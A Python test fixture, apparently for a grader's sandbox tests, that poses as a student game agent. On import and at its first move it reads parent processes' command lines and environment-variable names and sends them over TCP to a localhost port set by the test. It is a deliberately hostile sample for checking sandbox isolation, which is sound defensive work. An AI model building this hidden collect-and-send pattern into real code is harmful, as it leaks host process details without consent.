"""hostile3243 h05: talks over the network (tests/data/hostile3243/README.md).

At import and at its first move it sends what it can read of the grader
(its parents' command lines, and the names of their environment variables)
over TCP to 127.0.0.1 and ::1 on the port named in `port.txt` beside it,
where the test listens: that port only, so that even run unboxed it talks
to nothing but its test, and never sends an environment's values. Every try
and its outcome goes to attack.log in its own folder. Then it plays the
plain mover's move.
"""

import os
import sys
import socket
# The move choice (the plain mover's) and the class's kit, copied beside
# this file by the test.
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from plain_mover import *  # noqa: E402,F401,F403
from hostile_kit import *  # noqa: E402,F401,F403

HERE = os.path.dirname(os.path.abspath(__file__))


def loot():
    """What the grader would tell: command lines, names of environment variables."""
    lines = []
    for pid in ancestors():
        lines.append(" ".join(proc_words(pid, "cmdline")))
        lines += [pair.split("=", 1)[0] for pair in proc_words(pid, "environ")]
    return ("h3243 " + "\n".join(lines) + "\n").encode("utf-8", "replace")


def ports():
    """The test's port (port.txt), or none."""
    try:
        with open(os.path.join(HERE, "port.txt"), encoding="utf-8") as f:
            return [int(f.read().strip())]
    except (OSError, ValueError):
        return []


def attack(when):
    """One connection a host and port, each said in attack.log."""
    data = loot()
    for host in ("127.0.0.1", "::1"):
        for port in ports():
            try:
                with socket.create_connection((host, port), timeout=1.0) as s:
                    s.sendall(data)
                say(f"network {when} {host} {port}: CONNECTED, sent {len(data)} bytes")
            except OSError as e:
                say(f"network {when} {host} {port}: failed ({type(e).__name__}: {e})")


attack("import")
attacked_at_move = False




def studentAgent(gameboard):  # noqa: N802 - the hand-out's name
    """The hand-out's interface: the attack once more at the first move, then the
    plain mover's move."""
    global attacked_at_move
    if not attacked_at_move:
        attacked_at_move = True
        attack("move")
    return choose(gameboard)
